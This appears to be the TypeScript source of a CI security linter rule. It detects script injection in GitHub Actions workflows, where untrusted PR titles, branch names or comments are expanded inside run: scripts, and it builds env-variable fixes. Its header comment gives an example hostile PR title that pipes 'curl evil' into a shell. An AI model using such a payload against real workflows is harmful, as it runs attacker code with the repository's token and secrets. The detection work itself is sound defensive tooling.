/**
 * ci/script-injection: no `${{ }}` expression that an outside contributor controls (issue or pull
 * request title and body, head branch name, comment and review bodies, commit messages and authors:
 * the actionlint and zizmor list, whole objects holding them such as `toJSON(github.event)`, and object
 * filters such as `github.event.*.body`) is expanded inside code: a `run:` script (also one reached
 * through a YAML alias, or inside a `parallel:` group) or an input that an action executes as code
 * (actions/github-script `script`, azure/cli and azure/powershell `inlineScript`, yq `cmd`, pwsh and
 * Python script actions: CodeQL's and zizmor's sink lists). GitHub pastes the value into the code
 * before the shell parses it, so a PR titled `"; curl evil | sh #` runs code with the workflow's token.
 *
 * Untrusted text that reaches the code indirectly is reported at high instead of critical severity:
 * through an `env:` variable expanded as `${{ env.NAME }}`, a matrix value, or the output of an earlier
 * step that wrote untrusted text to `$GITHUB_OUTPUT`. The fix moves each expression into an `env:`
 * variable of the step and references it as "$VAR" (or `$env:VAR` in PowerShell); an `env.NAME`
 * expansion becomes "$NAME". A workflow without any script (only `uses:` steps) has nothing to examine.
 */
import { isAlias, isMap, isScalar, type Node } from 'yaml';
import type { Fix, FileRule, FixChange, RuleFinding } from '../../core/types';
import type { SourceFile } from '../../core/source';
import { actionSlug, expressions, keyColumn, pairOf, plain, untrustedRefs, workflowOf, type Job, type Step, type Workflow } from '../lib/workflow';
import { insertLinesAfter, isBlock } from '../lib/yaml-edit';

/**
 * Inputs that actions run as code (CodeQL's `code-injection` sink models and zizmor's additions),
 * by lower-case action slug.
 */
const CODE_INPUTS: Record<string, string[]> = {
  'actions/github-script': ['script'],
  'azure/cli': ['inlineScript'],
  'azure/powershell': ['inlineScript'],
  'appleboy/ssh-action': ['script'],
  'mikefarah/yq': ['cmd'],
  'devorbitus/yq-action-output': ['cmd'],
  'amadevus/pwsh-script': ['script'],
  'jannekem/run-python-script-action': ['script'],
  'cardinalby/js-eval-action': ['expression'],
  'addnab/docker-run-action': ['run'],
};

interface Hit {
  start: number;
  end: number;
  body: string;
  ref: string;
  /** How the untrusted text gets there when not directly: `env.NAME`, `matrix.KEY` or `steps.ID.outputs.X`. */
  via?: string;
  /** For `${{ env.NAME }}`: the variable the shell already has. */
  envName?: string;
}

function varName(ref: string, taken: Set<string>): string {
  const parts = ref.replace(/^github\.(event\.)?/, '').split('.').filter((p) => p !== '*' && !/^\[/.test(p));
  const base = parts.slice(-2).join('_').toUpperCase().replace(/[^A-Z0-9_]/g, '_') || 'UNTRUSTED_INPUT';
  let name = base;
  for (let i = 2; taken.has(name); i++) name = `${base}_${i}`;
  taken.add(name);
  return name;
}

function shellOf(wf: Workflow, job: Job, step: Step): string {
  const s = step.shell ?? job.shell ?? wf.shell;
  if (s) return s.trim().split(/\s+/)[0].toLowerCase();
  return JSON.stringify(job.runsOn ?? '').toLowerCase().includes('windows') ? 'pwsh' : 'bash';
}

/** How a shell script references a variable at a position, given the quotes open on that line. */
function reference(shell: string, name: string, line: string, col: number, after: string): { text: string; widen: number } | undefined {
  if (shell === 'pwsh' || shell === 'powershell') return { text: `$env:${name}`, widen: 0 };
  if (shell === 'cmd') return { text: `%${name}%`, widen: 0 };
  if (!['bash', 'sh', 'zsh', 'dash', 'ksh'].includes(shell)) return undefined;
  let q = '';
  for (let i = 0; i < col; i++) {
    const c = line[i];
    if (q === '' && c === '\\') i++;
    else if (q === '' && (c === '"' || c === "'")) q = c;
    else if (q === c) q = '';
    else if (q === '"' && c === '\\') i++;
  }
  if (q === '"') return { text: `\${${name}}`, widen: 0 };
  if (q === "'") return line[col - 1] === "'" && after.startsWith("'") ? { text: `"$${name}"`, widen: 1 } : { text: `'"$${name}"'`, widen: 0 };
  return { text: `"$${name}"`, widen: 0 };
}

function stepFix(file: SourceFile, wf: Workflow, job: Job, step: Step, hits: Hit[]): Fix | undefined {
  const node = step.runNode as Node | undefined;
  if (!isBlock(step.node) || !isScalar(node) || !['PLAIN', 'BLOCK_LITERAL', 'BLOCK_FOLDED'].includes(String(node.type))) return undefined;
  const shell = shellOf(wf, job, step);
  const envNode = step.envNode;
  if (envNode !== undefined && envNode !== null && !(isMap(envNode) && isBlock(envNode) && envNode.items.length > 0)) return undefined;
  const taken = new Set<string>(isMap(envNode) ? envNode.items.map((p) => String((p.key as { value?: unknown })?.value)) : []);
  const names = new Map<string, string>();
  const changes: FixChange[] = [];
  for (const h of hits) {
    const name = h.envName ?? names.get(h.body) ?? varName(h.via ? h.body.replace('.outputs.', '.') : h.ref, taken);
    if (!h.envName) names.set(h.body, name);
    const pos = file.positionAt(h.start);
    const line = file.lines[pos.line] ?? '';
    const ref = reference(shell, name, line, pos.character, file.text.slice(h.end, h.end + 1));
    if (!ref) return undefined;
    changes.push({ kind: 'edit', file: file.path, range: file.rangeOf(h.start - ref.widen, h.end + ref.widen), newText: ref.text });
  }
  const lines = [...names].map(([body, name]) => `${name}: \${{ ${body} }}`);
  const used = [...new Set(hits.map((h) => h.envName ?? names.get(h.body)!))];
  const title = `Pass ${used.join(', ')} through env instead of expanding it in the script`;
  if (lines.length === 0) return { title, changes };
  const col = keyColumn(file, isMap(envNode) ? envNode : step.node);
  if (col === undefined) return undefined;
  const insert = isMap(envNode) ? insertLinesAfter('', file, envNode, col, lines) : insertLinesAfter('', file, step.node, col, ['env:', ...lines.map((l) => '  ' + l)]);
  return { title, changes: [...changes, ...insert.changes] };
}

/** What carries untrusted text into a job indirectly, by the expression that reads it. */
interface Taint {
  /** `env.NAME` → the untrusted reference its value holds. */
  env: Map<string, string>;
  matrix: Map<string, string>;
  /** Step ids whose outputs hold untrusted text. */
  outputs: Map<string, string>;
}

function firstUntrusted(value: unknown): string | undefined {
  const text = typeof value === 'string' ? value : value !== null && typeof value === 'object' ? JSON.stringify(value) : '';
  if (!text.includes('${{')) return undefined;
  for (const e of expressions(text)) {
    const refs = untrustedRefs(e.body);
    if (refs.length > 0) return refs[0];
  }
  return undefined;
}

function addEnv(into: Map<string, string>, env: unknown): void {
  if (env === null || typeof env !== 'object' || Array.isArray(env)) return;
  for (const [k, v] of Object.entries(env as Record<string, unknown>)) {
    const ref = firstUntrusted(v);
    if (ref) into.set(k, ref);
    else into.delete(k);
  }
}

/** The env variables and matrix values of a job that hold untrusted text (`workflowEnv`: the workflow's). */
function jobTaint(wf: Workflow, job: Job, workflowEnv: Map<string, string>): Taint {
  const env = new Map(workflowEnv);
  const m = job.node;
  if (m) addEnv(env, plain(wf.doc, pairOf(m, 'env')?.value));
  const matrix = new Map<string, string>();
  const strategy = m ? plain(wf.doc, pairOf(m, 'strategy')?.value) : undefined;
  const mx = strategy && typeof strategy === 'object' ? (strategy as Record<string, unknown>).matrix : undefined;
  if (mx && typeof mx === 'object' && !Array.isArray(mx)) {
    for (const [k, v] of Object.entries(mx as Record<string, unknown>)) {
      if (k === 'include' && Array.isArray(v)) {
        for (const row of v) if (row && typeof row === 'object') for (const [rk, rv] of Object.entries(row as Record<string, unknown>)) {
          const ref = firstUntrusted(rv);
          if (ref) matrix.set(rk, ref);
        }
      } else if (k !== 'exclude') {
        const ref = firstUntrusted(v);
        if (ref) matrix.set(k, ref);
      }
    }
  }
  return { env, matrix, outputs: new Map() };
}

/** The untrusted reference an expression reads, directly or through the job's tainted values. */
function taintOf(body: string, env: Map<string, string>, taint: Taint): { ref: string; via?: string; envName?: string } | undefined {
  const direct = untrustedRefs(body);
  if (direct.length > 0) return { ref: direct[0] };
  const code = body.replace(/'(?:[^']|'')*'/g, "''");
  for (const m of code.matchAll(/(?<![\w.-])env\.([A-Za-z_][\w]*)/g)) {
    const ref = env.get(m[1]);
    if (ref) return { ref, via: `env.${m[1]}`, ...(body.trim() === m[0] ? { envName: m[1] } : {}) };
  }
  for (const m of code.matchAll(/(?<![\w.-])matrix\.([\w-]+)/g)) {
    const ref = taint.matrix.get(m[1]);
    if (ref) return { ref, via: `matrix.${m[1]}` };
  }
  for (const m of code.matchAll(/(?<![\w.-])steps\.([\w-]+)\.outputs\b/g)) {
    const ref = taint.outputs.get(m[1]);
    if (ref) return { ref, via: `steps.${m[1]}.outputs` };
  }
  return undefined;
}

/** The node a value stands for (an alias is read where its anchor is). */
function target(wf: Workflow, n: unknown): Node | undefined {
  if (isAlias(n)) {
    try {
      return (n.resolve(wf.doc) as Node | undefined) ?? undefined;
    } catch {
      return undefined;
    }
  }
  return (n as Node | null) ?? undefined;
}

function untrustedHits(file: SourceFile, node: Node | undefined, env: Map<string, string>, taint: Taint): Hit[] {
  const r = node?.range;
  if (!r) return [];
  const hits: Hit[] = [];
  for (const e of expressions(file.text.slice(r[0], r[1]))) {
    const t = taintOf(e.body, env, taint);
    if (t) hits.push({ start: r[0] + e.start, end: r[0] + e.end, body: e.body, ...t });
  }
  return hits;
}

function message(h: Hit, where: string): string {
  const who = 'outside contributors write (issue, pull request, branch or commit authors)';
  if (!h.via) return `\`\${{ ${h.body} }}\` is expanded inside ${where}, and ${h.ref} is text ${who}: pass it through an env variable and use "$VAR"`;
  const remedy = h.envName ? `use "$${h.envName}" instead, which the shell expands safely` : 'pass it through an env variable and use "$VAR"';
  return `\`\${{ ${h.body} }}\` is expanded inside ${where}, and ${h.via} carries ${h.ref}, text ${who}: ${remedy}`;
}

export const rule: FileRule = {
  id: 'ci/script-injection',
  category: 'ci-cd',
  severity: 'critical',
  level: 'mvp',
  title: 'Scripts never expand untrusted event data',
  rationale: 'Expressions are substituted into a `run:` script before the shell parses it, so an attacker-controlled PR title or branch name becomes code running with the workflow\'s token and secrets.',
  related: [
    { tool: 'zizmor', id: 'template-injection' },
    { tool: 'actionlint', id: 'expression' },
    { tool: 'scorecard', id: 'Dangerous-Workflow' },
  ],
  fixable: true,
  scope: 'file',
  guard: true,
  kinds: ['workflow'],
  examines: (file) => !!workflowOf(file)?.jobs.some((j) => j.steps.some((s) => s.runNode !== undefined || (!!CODE_INPUTS[actionSlug(s)] && CODE_INPUTS[actionSlug(s)].some((i) => s.with[i] !== undefined)))),
  examinesWhat: 'a `run:` script or an action input run as code (actions/github-script `script`...)',
  checkFile(file) {
    const wf = workflowOf(file);
    if (!wf) return [];
    const findings: RuleFinding[] = [];
    const seen = new Set<number>();
    const report = (h: Hit, msg: string, sink: string, fix?: Fix) => {
      if (seen.has(h.start)) return;
      seen.add(h.start);
      // `data` says how the text gets there, for the peer comparison (actionlint knows only direct leaf contexts).
      const whole = !/\.(?:title|body|ref|label|default_branch|page_name|message|email|name|head_ref|head_branch|display_title|description)$/.test(h.ref);
      findings.push({ message: msg, range: file.rangeOf(h.start, h.end), ...(h.via ? { severity: 'high' as const } : {}), ...(fix ? { fix } : {}), data: { ref: h.ref, via: h.via ?? null, sink, wholeObject: whole } });
    };
    const workflowEnv = new Map<string, string>();
    if (file.text.includes('${{')) addEnv(workflowEnv, plain(wf.doc, pairOf(wf.root, 'env')?.value));
    for (const job of wf.jobs) {
      const taint = jobTaint(wf, job, workflowEnv);
      for (const step of job.steps) {
        let env = taint.env;
        if (step.envNode) {
          env = new Map(taint.env);
          addEnv(env, plain(wf.doc, step.envNode));
        }
        const runNode = target(wf, step.runNode);
        const run = untrustedHits(file, runNode, env, taint);
        const fix = run.length > 0 && runNode === step.runNode ? stepFix(file, wf, job, step, run) : undefined;
        for (const h of run) report(h, message(h, 'the script'), 'run', fix);
        const slug = actionSlug(step);
        const inputs = CODE_INPUTS[slug];
        if (inputs && isMap(step.withNode)) {
          for (const input of inputs) {
            for (const h of untrustedHits(file, target(wf, pairOf(step.withNode, input)?.value), env, taint)) {
              report(h, message(h, `the \`${input}\` input of ${slug}, which runs it as code`).replace(/use "\$VAR"$|use "\$\w+" instead, which the shell expands safely$/, 'read the variable in the code (e.g. `process.env.VAR`)'), `${slug} ${input}`);
            }
          }
        }
        // A step that writes untrusted text to $GITHUB_OUTPUT taints its outputs for the steps after it.
        const id = plain(wf.doc, pairOf(step.node, 'id')?.value);
        const script = runNode && isScalar(runNode) ? String(runNode.value ?? '') : '';
        if (typeof id === 'string' && /GITHUB_OUTPUT|::set-output/.test(script)) {
          const viaExpr = run.find((h) => !h.via || h.via.startsWith('env.'));
          const viaShell = [...env].find(([name]) => new RegExp(`\\$\\{?${name}\\b`).test(script));
          const ref = viaExpr?.ref ?? viaShell?.[1];
          if (ref) taint.outputs.set(id, ref);
        }
      }
    }
    return findings;
  },
};
